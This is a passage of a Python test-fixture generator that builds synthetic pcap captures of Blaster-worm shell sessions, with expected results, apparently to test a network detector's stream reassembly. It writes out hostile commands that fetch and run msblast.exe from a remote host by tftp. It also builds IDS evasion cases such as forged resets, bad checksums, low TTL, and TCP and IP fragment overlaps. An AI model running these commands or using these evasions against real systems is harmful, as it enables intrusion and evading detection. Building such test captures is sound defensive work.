    sh.close()
    sh = Shell(cap, aport=1202, vport=7777, t=sh.t + 1)
    sh.open()
    lost_in_line(sh, "tftp -i 81.132.114.254 GET ", "evil", "y.exe\n")
    sh.type("tftp -i 81.132.114.254 GET ok2.exe", [("get", "ok2.exe", ATTACKER)])
    sh.close()
    # the very first bytes lost: the victim ran "echo tftp ... > f", a harmless echo
    sh = Shell(cap, aport=1203, vport=4444, t=sh.t + 1)
    sh.open()
    lost_in_line(sh, "", "echo ", "tftp -i 81.132.114.254 GET z.exe > f\n")
    sh.type("tftp -i 81.132.114.254 GET ok3.exe", [("get", "ok3.exe", ATTACKER)])
    sh.close()
    return cap


# ---------------------------------------------- evasions (issue 13), each resolved as
# the Windows victim resolves it: reassembly/README.md gives every rule and its source

JUNK = "tftp -i 81.132.114.254 GET xxxxxxx.exe"     # as long as the real GET line
REAL = "tftp -i 81.132.114.254 GET msblast.exe"


def insertion(junk_kw):
    """A junk copy of the GET line the victim refuses, then the real line."""
    def case():
        cap = Capture()
        s = Session(cap)
        s.handshake()
        kw = dict(junk_kw)
        flags = kw.pop("flags", "PA")
        s.seg(True, flags, (JUNK + "\n").encode(), **kw)
        s.line(REAL, [("get", "msblast.exe", ATTACKER)])
        s.line("start msblast.exe", [("start", "msblast.exe")])
        s.close()
        return cap
    return case


def case_forged_syn():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    s.line(REAL, [("get", "msblast.exe", ATTACKER)])
    s.seg(True, "S", seq=s.cseq + 900000)                 # out of the window: ignored
    s.seg(True, "S", seq=s.cseq + 10, chksum=0xdead)      # in the window, bad checksum
    s.send("start ")
    s.seg(True, "S", seq=s.cseq + 50000000, ttl=1)        # mid-line, TTL 1
    s.line("msblast.exe", [("start", "msblast.exe")])
    s.close()
    return cap


def case_beyond_window():
    """The victim offers 512 bytes; junk sent past that is dropped, not queued."""
    cap = Capture()
    s = Session(cap)
    s.seg(True, "S", seq=s.isn)
    s.seg(False, "SA", seq=s.sisn, window=512)
    s.seg(True, "A")
    s.seg(False, "PA", BANNER, window=512)
    s.sseq += len(BANNER)
    s.seg(True, "A")
    pad = "echo " + "A" * 600
    junk_at = s.cseq + len(pad) + 1      # where the real GET line will start
    s.seg(True, "PA", (JUNK + "\n").encode(), seq=junk_at)     # beyond the 512 bytes
    s.send(pad + "\n")
    s.seg(False, "A", window=512)
    s.line(REAL, [("get", "msblast.exe", ATTACKER)])
    s.close()
    return cap


def case_rst_mid_line():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    s.send("tftp -i 81.132.114.254 ")
    s.seg(False, "R", seq=s.sseq + 200000)                # out of window
    s.seg(True, "R", seq=s.cseq + 300000)                 # out of window
    s.seg(True, "R", seq=s.cseq, chksum=0xdead)           # in window, bad checksum
    s.seg(True, "R", seq=s.cseq, ttl=2)                   # in window, TTL too low
    s.line("GET msblast.exe", [("get", "msblast.exe", ATTACKER)])
    s.close()
    return cap


def case_duplicate_after_rst():
    """As in the real 2003 capture: a mid-stream session, RST, then the same packets again."""
    cap = Capture()
    s = Session(cap)
    s.sseq += len(BANNER)
    s.line("start msblast.exe", [("start", "msblast.exe")])
    s.line("msblast.exe", [("exec", "msblast.exe")])
    s.reset()
    for p in list(cap.pkts):
        cap.add(p.copy(), float(p.time) + 5)
    return cap


def case_data_after_fin():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    s.line(REAL, [("get", "msblast.exe", ATTACKER)])
    s.seg(True, "FA")
    s.cseq += 1
    s.seg(True, "PA", b"start evil.exe\n", seq=s.cseq - 1)    # at the FIN's place
    s.seg(True, "PA", b"start evil2.exe\n", seq=s.cseq)       # after it
    s.seg(False, "FA")
    s.sseq += 1
    s.seg(True, "A")
    return cap


def case_replay_closed():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    s.line(REAL, [("get", "msblast.exe", ATTACKER)])
    s.line("start msblast.exe", [("start", "msblast.exe")])
    s.close()
    data = [p for p in cap.pkts if p.haslayer(Raw) and p[TCP].sport == s.cport]
    for p in data:                                         # the client's data, no SYN
        cap.add(p.copy(), float(p.time) + 30)
    return cap


def case_tcp_overlap():
    """Out-of-order overlaps: Windows keeps the first copy unless a later one covers it
    entirely and starts before it (Novak & Sturges 2007; Snort 3 full_right_overlap_os1)."""
    cap = Capture()
    s = Session(cap)
    s.handshake()
    text = (REAL + "\n").encode()
    base = s.cseq
    # 1: same start, same length: the first copy (real) stays
    s.seg(True, "PA", text[8:], seq=base + 8)
    s.seg(True, "PA", (JUNK + "\n").encode()[8:], seq=base + 8)
    s.seg(True, "PA", text[:8], seq=base)
    cap.expect(s.t, s, "get", "msblast.exe", ATTACKER)
    s.cseq = base + len(text)
    s.seg(False, "A")
    # 2: junk queued first, then a real copy starting before it and covering it: real wins
    line2 = b"start msblast.exe\n"
    base = s.cseq
    s.seg(True, "PA", b"evil.exe", seq=base + 6)
    s.seg(True, "PA", line2[4:], seq=base + 4)
    s.seg(True, "PA", line2[:4], seq=base)
    cap.expect(s.t, s, "start", "msblast.exe")
    s.cseq = base + len(line2)
    s.seg(False, "A")
    s.close()
    return cap


def case_ipfrag_overlap():
    """Fragment overlaps, Windows: the first copy wins unless a later fragment starts
    before an earlier one and ends after it (Novak 2005; Suricata defrag.c, windows)."""
    cap = Capture()
    s = Session(cap)
    s.handshake()
    text = (REAL + "\n").encode()
    ip = s._ip(True) / TCP(sport=s.cport, dport=s.sport, flags="PA", seq=s.cseq, ack=s.sseq,
                           window=64240) / Raw(text)
    ip = IP(bytes(ip))
    raw = bytes(ip[TCP])            # 20 header bytes, then the line
    junk = raw[:20] + (JUNK + "\n").encode()

    def frag(off, chunk, mf):
        return IP(src=s.cli, dst=s.srv, id=ip.id, proto=6, flags=mf, frag=off // 8,
                  ttl=113) / Raw(chunk)
    cap.add(s.l2(frag(0, raw[:24], 1)), s.tick())
    cap.add(s.l2(frag(40, raw[40:48], 1)), s.tick())       # real bytes 40..47
    cap.add(s.l2(frag(40, junk[40:48], 1)), s.tick())      # same place: the first stays
    cap.add(s.l2(frag(32, b"XXXXXXXX", 1)), s.tick())      # junk 32..39, then covered:
    cap.add(s.l2(frag(24, raw[24:48], 1)), s.tick())       # starts before, ends after it
    cap.add(s.l2(frag(48, raw[48:], 0)), s.tick())
    cap.expect(s.t, s, "get", "msblast.exe", ATTACKER)
    s.cseq += len(text)
    s.seg(False, "A")
    s.line("start msblast.exe", [("start", "msblast.exe")])
    s.close()
    return cap


def case_clock_jumps():
    """One packet 20 years ahead, one 20 years back, in the middle of a line."""
    cap = Capture()
    s = Session(cap)
    s.handshake()
    s.line(REAL, [("get", "msblast.exe", ATTACKER)])
    s.send("start ms")
    s.seg(False, "A", t=s.t + 20 * 365 * 86400)
    s.seg(False, "A", t=s.t - 20 * 365 * 86400)
    cap.keep_order = True           # the file keeps these where they were sent
    s.tick(30)
    s.line("blast.exe", [("start", "msblast.exe")])
    s.close()
    return cap


def cooked(p):
    return CookedLinux(pkttype=0, lladdrtype=1, lladdrlen=6, src=b"\x00\x0c\x29\x11\x22\x33",
                       proto=0x0800) / p


def null_header(p):
    # DLT_NULL: the address family in the capturing host's byte order (here little-endian)
    return Raw(b"\x02\x00\x00\x00") / p


CASES = {
    "blaster-basic": case_blaster_basic,
    "split-segments": case_split_segments,
    "out-of-order": case_out_of_order,
    "ip-fragments": case_ip_fragments,
    "vlan": case_vlan,
    "qinq": case_qinq,
    "encapsulations": case_encapsulations,
    "nat": case_nat,
    "variants": case_variants,
    "workers-split": case_workers_split,
    "http-noise": case_http_noise,
    "interleaved": case_interleaved,
    "midstream": case_midstream,
    "retransmit": case_retransmit,
    "close-vs-reset": case_close_vs_reset,
    "chained": case_chained,
    "overlong": case_overlong,
    "hostile-names": case_hostile_names,
    "tftp-variants": case_tftp_variants,
    "shell-reverse": case_shell_reverse,
    "shell-port-banner": case_shell_port_banner,
    "shell-midstream-prompt": case_shell_midstream_prompt,
    "shell-ftp-echo": case_shell_ftp_echo,
    "shell-ftp-interactive": case_shell_ftp_interactive,
    "shell-long-line": case_shell_long_line,
    "shell-stager": case_shell_stager,
    "shell-stager-long": case_shell_stager_long,
    "capture-loss": case_capture_loss,
    "evasion-forged-syn": case_forged_syn,
    "evasion-tcp-checksum": insertion({"chksum": 0xdead}),
    "evasion-ip-checksum": insertion({"ipchksum": 0xdead}),
    "evasion-ttl": insertion({"ttl": 1}),
    "evasion-no-ack": insertion({"flags": "P"}),
    "evasion-bad-ack": insertion({"ack": 5000001 + 900000}),
    "evasion-beyond-window": case_beyond_window,
    "evasion-rst": case_rst_mid_line,
    "duplicate-after-rst": case_duplicate_after_rst,
    "data-after-fin": case_data_after_fin,
    "replay-closed": case_replay_closed,
    "tcp-overlap": case_tcp_overlap,
    "ipfrag-overlap": case_ipfrag_overlap,
    "clock-jumps": case_clock_jumps,
}


def write(outdir, name, cap, linktype=None):
    path = os.path.join(outdir, name + ".pcap")
    pkts = cap.sorted_pkts()
    if linktype is not None:
        wrpcap(path, pkts, linktype=linktype)
    else:
        wrpcap(path, pkts)
    with open(os.path.join(outdir, name + ".tsv"), "w") as f:
        f.write(cap.tsv())
    if cap.files:
        with open(os.path.join(outdir, name + ".files"), "w") as f:
            for fname, data in cap.files:
                f.write("%s\t%d\t%s\t%s\n" % (fname, len(data), hashlib.md5(data).hexdigest(),
                                              hashlib.sha256(data).hexdigest()))
    return path


def main():
    outdir = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
    for name, fn in CASES.items():
        write(outdir, name, fn())
    # the basic session on other link types, and as pcapng
    write(outdir, "linktype-sll", blaster_on(cooked))
    write(outdir, "linktype-null", blaster_on(null_header), linktype=0)
    write(outdir, "linktype-raw", blaster_on(lambda p: p), linktype=101)
    base = os.path.join(outdir, "blaster-basic")
    subprocess.run(["editcap", "-F", "pcapng", base + ".pcap", base + ".pcapng"], check=True)


def blaster_on(l2):
    cap = Capture()
    blaster(cap, l2=l2)
    return cap


if __name__ == "__main__":
    main()
